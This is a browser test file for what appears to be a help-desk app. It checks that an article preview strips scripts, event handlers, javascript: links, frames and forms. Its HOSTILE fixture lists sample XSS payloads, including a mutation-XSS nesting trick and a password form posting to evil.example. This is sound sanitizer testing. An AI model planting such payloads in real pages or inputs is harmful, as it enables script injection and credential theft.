import type { Locator } from 'playwright-core'
import { expect, it } from 'vitest'
import { makeArticle } from '#workspace/tiny/make.ts'
import { tinyAccount } from '#workspace/tiny-account.ts'
import { setUpJourney } from './harness.ts'
import { appFrame, openTicket } from './window.ts'

/** As an author with bad intentions, or an import from an old site, would leave it behind. */
const HOSTILE = `
  <p id="barometer" class="x" style="position:fixed" onclick="document.title = 'owned'">A refund takes five days.</p>
  <script>document.title = 'owned'</script>
  <img src="x:y" onerror="document.title = 'owned'">
  <svg onload="document.title = 'owned'"><a href="javascript:alert(1)">vector</a></svg>
  <math><mtext><table><mglyph><style><img src=x onerror="document.title = 'owned'"></style></mglyph></table></mtext></math>
  <iframe src="https://evil.example/"></iframe>
  <form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
  <style>body { display: none }</style>
  <p><a href="javascript:alert(1)">run</a> <a href="/hc/en-us/articles/33002" target="_top">read on</a></p>
  <img alt="plain" src="http://example.com/a.png"><img alt="data" src="data:image/png;base64,AAAA">
  <img alt="good" src="https://example.zendesk.com/hc/article_attachments/1/a.png">`

const journey = setUpJourney({
  account: () =>
    tinyAccount({
      articles: [makeArticle({ id: 33001, title: 'When will my refund arrive?', body: HOSTILE })],
    }),
})

const attributes = (all: Locator, name: string): Promise<(string | null)[]> =>
  all.evaluateAll((elements, key) => elements.map((element) => element.getAttribute(key)), name)

it('shows of an article text, links and pictures, and nothing that acts', async () => {
  journey.expectComplaint(/Content Security Policy|Failed to load resource|ERR_/)
  const page = await journey.signIn()
  await openTicket(page, 110)
  const frame = appFrame(page)
  await frame.getByRole('button', { name: 'Preview: When will my refund arrive?' }).click()
  const preview = frame.getByRole('region', { name: 'Preview of When will my refund arrive?' })
  await preview.getByText('A refund takes five days.').waitFor()
  expect(await preview.locator('script, iframe, form, input, style, svg, math, object').count()).toBe(0)
  // Ours, under the article.
  expect(await preview.locator('button').allInnerTexts()).toEqual(['Quote a passage'])
  const body = preview.locator('p, a, img, div')
  for (const name of ['onclick', 'onerror', 'style']) {
    expect((await attributes(body, name)).filter((value) => value !== null)).toEqual([])
  }
  expect(await frame.locator('#barometer').count()).toBe(1)
  expect(await attributes(preview.locator('img'), 'alt')).toEqual(['good'])
  expect(await attributes(preview.getByText('run', { exact: true }), 'href')).toEqual([null])
  const link = preview.getByRole('link', { name: 'read on' })
  expect(await attributes(link, 'href')).toEqual(['https://example.zendesk.com/hc/en-us/articles/33002'])
  expect(await attributes(link, 'target')).toEqual(['_blank'])
  expect(await attributes(link, 'rel')).toEqual(['noopener noreferrer'])
  expect(await frame.locator('html').evaluate(() => document.title)).not.toBe('owned')
})
